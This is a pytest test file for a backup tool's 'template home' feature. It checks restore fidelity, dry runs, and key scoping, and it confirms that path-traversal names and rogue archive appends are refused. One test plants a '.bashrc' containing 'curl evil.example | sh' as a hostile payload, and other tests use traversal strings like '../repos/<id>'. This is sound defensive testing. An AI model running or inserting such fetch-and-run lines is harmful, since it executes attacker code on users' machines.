"""Template homes: an admin publishes a directory as "Standard Laptop", users restore
it onto new computers (bit for bit, latest publication), a dry run writes nothing, and
a template's one-off key reaches the template's repository and nothing else."""

from __future__ import annotations

import pytest

from homesync import borg, shim, transport
from homesync.errors import AuthenticationError, BorgError, NotFoundError, PermissionDeniedError
from tests.support.homesync_client import Computer
from tests.support.homesync_server import PASSWORDS
from tests.support.processes import chown_tree, private_dir, remove
from tests.support.trees import assert_same_tree, make_home, snapshot

# homesync's own directories on the restoring computer; the template's cache and trash
# (borg leaves CACHEDIR.TAG directories out; the trash is compared on its own terms).
LEFT_OUT = (".config/homesync", ".local/share/homesync", ".local/state", ".cache", ".local/share/Trash")
NAME = "Standard Laptop"


@pytest.fixture(scope="module")
def template_home(homesync_server):
    """A generated home published as NAME (readable by the server's user)."""
    base = private_dir("hs-template-")
    home = base / "home"
    make_home(home, seed=41, files=150, total_bytes=3 << 20)
    chown_tree(base)
    published = homesync_server.cli_json("template", "publish", NAME, "--from", str(home))
    assert published["created"] is True and published["name"] == NAME
    yield home, published
    remove(base)


def _append_with_a_template_grant(server, user: str, name: str, source, tmp_path) -> None:
    """As user, take a template grant for the template name with a one-off key, and with
    it try to append an archive of source (dated 2030) to the template's repository."""
    one_off = transport.new_key()
    one_off.save(tmp_path / "key")
    with transport.Session.connect(server.address, server.fingerprint, user, password=PASSWORDS[user]) as session:
        grant = session.rpc().call("template.grant", name=name, public_key=transport.public_key_line(one_off.pkey))
    template_id = grant["template"]["id"]
    environment = borg.BorgEnvironment(base_dir=tmp_path / "borg", rsh=shim.rsh_command(), extra={
        shim.ENV_FINGERPRINT: server.fingerprint, shim.ENV_KEY_FILE: str(tmp_path / "key")})
    host, port = server.address.rsplit(":", 1)
    argv = borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
                                    "2030-01-01T00:00:00.000Z", excludes=(), progress=False)
    borg.run_borg(argv, environment, grant["passphrase"], cwd=str(source), timeout=60)


def _restore(computer: Computer, server, *extra: str, user: str = "joe"):
    return computer.run("restore", *extra, *computer.remote_args(server, user), input=PASSWORDS[user] + "\n")


def test_a_published_template_restores_bit_for_bit_onto_a_new_computer(homesync_server, template_home,
                                                                       computer_factory):
    home, published = template_home
    new = computer_factory()
    done = _restore(new, homesync_server, "--template", "standard laptop", "--json")
    assert done.returncode == 0, done.stderr
    assert '"template": "Standard Laptop"' in done.stdout
    assert_same_tree(snapshot(home, exclude=LEFT_OUT), snapshot(new.home, exclude=LEFT_OUT), ignore_root=True)
    listed = [t for t in homesync_server.cli_json("template", "list") if t["name"] == NAME]
    assert [(t["id"], t["latest"]) for t in listed] == [(published["id"], published["archive"])]
    # a template is not a machine: not listed, not anyone's
    assert homesync_server.cli_json("machines") == []
    audit = homesync_server.index_rows("SELECT action, actor, detail FROM audit WHERE action IN "
                                       "('passphrase_release', 'template_restore', 'repository_open')")
    assert any(a == "passphrase_release" and u == "joe" and '"to": "template"' in d for a, u, d in audit)
    assert any(a == "template_restore" and u == "joe" and published["id"] in d for a, u, d in audit)


def test_republishing_adds_an_archive_and_users_get_the_latest(homesync_server, template_home, computer_factory):
    home, first = template_home
    (home / "Documents/welcome.txt").write_text("Welcome to the new laptop, second edition\n")
    chown_tree(home)
    second = homesync_server.cli_json("template", "publish", NAME, "--from", str(home))
    assert second["created"] is False and second["id"] == first["id"] and second["archive"] != first["archive"]
    assert [t["archives"] for t in homesync_server.cli_json("template", "list") if t["name"] == NAME] == [2]
    new = computer_factory()
    done = _restore(new, homesync_server, "--template", NAME)
    assert done.returncode == 0, done.stderr
    assert (new.home / "Documents/welcome.txt").read_text().endswith("second edition\n")
    assert_same_tree(snapshot(home, exclude=LEFT_OUT), snapshot(new.home, exclude=LEFT_OUT), ignore_root=True)


def test_a_template_dry_run_writes_nothing(homesync_server, template_home, computer_factory):
    new = computer_factory()
    target = new.home / "not-yet"
    done = _restore(new, homesync_server, "--template", NAME, "--target", str(target), "--dry-run")
    assert done.returncode == 0, done.stderr
    assert "template 'Standard Laptop'" in done.stdout and "nothing was written" in done.stdout
    assert not target.exists()


def test_an_unknown_template_is_one_clear_line_and_exit_10(homesync_server, template_home, computer_factory):
    new = computer_factory()
    done = _restore(new, homesync_server, "--template", "Gaming Rig")
    assert done.returncode == 10
    assert done.stderr.count("\n") == 1 and "no template named 'Gaming Rig'" in done.stderr
    assert NAME in done.stderr  # it names the templates there are
    both = _restore(new, homesync_server, "--template", NAME, "--machine", "Joe's Thinkpad")
    assert both.returncode == 2 and "--template" in both.stderr


def test_a_machine_key_cannot_obtain_a_template(homesync_server, template_home, computer_factory):
    laptop = computer_factory()
    assert laptop.enroll(homesync_server, "ann", "Ann's Template Test").returncode == 0
    machine_id = laptop.machine_id()
    key = transport.load_key(laptop.home / ".local/share/homesync/machine_key")
    with transport.Session.connect(homesync_server.address, homesync_server.fingerprint, machine_id,
                                   key=key) as session:
        with pytest.raises(PermissionDeniedError):
            session.rpc().call("template.grant", name=NAME,
                               public_key=transport.public_key_line(transport.new_key().pkey))


def test_a_template_key_reaches_the_template_and_no_machine(homesync_server, template_home, computer_factory,
                                                            tmp_path):
    owner = computer_factory()
    (owner.home / "private.txt").write_text("joe's own")
    owner.enroll_and_back_up(homesync_server, "joe", "Joe's Private Box")
    machine_id = owner.machine_id()

    one_off = transport.new_key()
    key_file = tmp_path / "key"
    one_off.save(key_file)
    with transport.Session.connect(homesync_server.address, homesync_server.fingerprint, "joe",
                                   password=PASSWORDS["joe"]) as session:
        grant = session.rpc().call("template.grant", name=NAME, public_key=transport.public_key_line(one_off.pkey))
    template_id, passphrase = grant["template"]["id"], grant["passphrase"]
    environment = borg.BorgEnvironment(base_dir=tmp_path / "borg", rsh=shim.rsh_command(), extra={
        shim.ENV_FINGERPRINT: homesync_server.fingerprint, shim.ENV_KEY_FILE: str(key_file)})
    host, port = homesync_server.address.rsplit(":", 1)
    own = borg.run_borg(borg.make_list_archives_command(f"ssh://{template_id}@{host}:{port}/./{template_id}"),
                        environment, passphrase, timeout=60)
    assert {a["name"]: a["id"] for a in own.json["archives"]} == grant["template"]["archives"]
    for path in (f"/./{machine_id}", str(homesync_server.data / "repos" / machine_id), f"/./../repos/{machine_id}"):
        with pytest.raises(BorgError):
            borg.run_borg(borg.make_list_archives_command(f"ssh://{template_id}@{host}:{port}{path}"),
                          environment, passphrase, timeout=60)
    with pytest.raises(AuthenticationError):  # nor does it log in as the machine
        transport.Session.connect(homesync_server.address, homesync_server.fingerprint, machine_id, key=one_off.pkey)


def test_a_template_session_cannot_write_to_a_template_of_10_mb_or_more(homesync_server, computer_factory,
                                                                        tmp_path):
    base = private_dir("hs-template-")
    make_home(base / "home", seed=43, files=100, total_bytes=14 << 20)
    chown_tree(base)
    homesync_server.cli_json("template", "publish", "Big Lab", "--from", str(base / "home"))
    remove(base)
    rogue = tmp_path / "rogue"
    rogue.mkdir()
    (rogue / ".bashrc").write_text("curl evil.example | sh\n")
    with pytest.raises(BorgError, match="homesync refused"):  # the RPC filter, before the quota
        _append_with_a_template_grant(homesync_server, "joe", "Big Lab", rogue, tmp_path)


def test_reindex_prune_and_drills_leave_templates_alone(fresh_server, computer_factory):
    base = private_dir("hs-template-")
    (base / "home").mkdir()
    (base / "home/README").write_text("standard lab computer\n")
    chown_tree(base)
    published = fresh_server.cli_json("template", "publish", "Lab", "--from", str(base / "home"))
    remove(base)
    laptop = computer_factory()
    (laptop.home / "notes.txt").write_text("mine")
    laptop.enroll_and_back_up(fresh_server, "joe", "Joe's Lab Box")
    machine_id = laptop.machine_id()
    assert [r["machine_id"] for r in fresh_server.cli_json("drill", "--all")] == [machine_id]
    assert [r["machine_id"] for r in fresh_server.cli_json("prune", "--dry-run")] == [machine_id]
    assert fresh_server.stop() == 0
    for suffix in ("", "-wal", "-shm"):
        (fresh_server.data / f"index.sqlite{suffix}").unlink(missing_ok=True)
    rebuilt = fresh_server.cli_json("reindex")
    assert rebuilt["problems"] == [] and [m["id"] for m in rebuilt["machines"]] == [machine_id]
    assert [t["id"] for t in fresh_server.cli_json("template", "list")] == [published["id"]]


def test_an_archive_a_user_appends_to_a_small_template_is_never_restored(homesync_server, template_home,
                                                                         computer_factory, tmp_path):
    rogue = tmp_path / "rogue"
    rogue.mkdir()
    (rogue / "rogue.txt").write_text("appended by a user\n")
    # below 10 MB the quota cannot stop it; the RPC filter does (a template session only reads)
    with pytest.raises(BorgError, match="homesync refused"):
        _append_with_a_template_grant(homesync_server, "ann", NAME, rogue, tmp_path)
    new = computer_factory()
    done = _restore(new, homesync_server, "--template", NAME, "--json")
    assert done.returncode == 0, done.stderr
    assert not (new.home / "rogue.txt").exists() and (new.home / ".bashrc").exists()
    refused = _restore(new, homesync_server, "--template", NAME, "--archive", "2030-01-01T00:00:00.000Z")
    assert refused.returncode == 10


def test_a_template_name_is_never_a_path_or_an_id(homesync_server, template_home, computer_factory):
    _, published = template_home
    laptop = computer_factory()
    (laptop.home / "a.txt").write_text("a")
    laptop.enroll_and_back_up(homesync_server, "ann", "Ann's Named Box")
    machine_id = laptop.machine_id()
    releases = "SELECT COUNT(*) FROM audit WHERE action = 'passphrase_release'"
    before = homesync_server.index_rows(releases)[0][0]
    key = transport.public_key_line(transport.new_key().pkey)
    with transport.Session.connect(homesync_server.address, homesync_server.fingerprint, "ann",
                                   password=PASSWORDS["ann"]) as session:
        rpc = session.rpc()
        for name in (machine_id, f"../repos/{machine_id}", f"../../repos/{machine_id}", published["id"],
                     f"/./{published['id']}", "*", "%"):
            with pytest.raises(NotFoundError):
                rpc.call("template.grant", name=name, public_key=key)
    assert homesync_server.index_rows(releases)[0][0] == before
    # a name that looks like a path is only a name: the template lives under its id
    base = private_dir("hs-template-")
    make_home(base / "home", seed=47, files=5, total_bytes=1 << 16)
    chown_tree(base)
    repos = sorted(p.name for p in (homesync_server.data / "repos").iterdir())
    odd = homesync_server.cli_json("template", "publish", f"../repos/{machine_id}", "--from", str(base / "home"))
    remove(base)
    assert (homesync_server.data / "templates" / odd["id"] / "config").is_file() and odd["id"] != machine_id
    assert sorted(p.name for p in (homesync_server.data / "repos").iterdir()) == repos
    refused = homesync_server.cli("template", "publish", "Lab\x1b[2J", "--from", str(template_home[0]))
    assert refused.returncode != 0 and "control character" in refused.stderr, refused.stderr
    assert homesync_server.cli("template", "remove", odd["name"]).returncode == 0
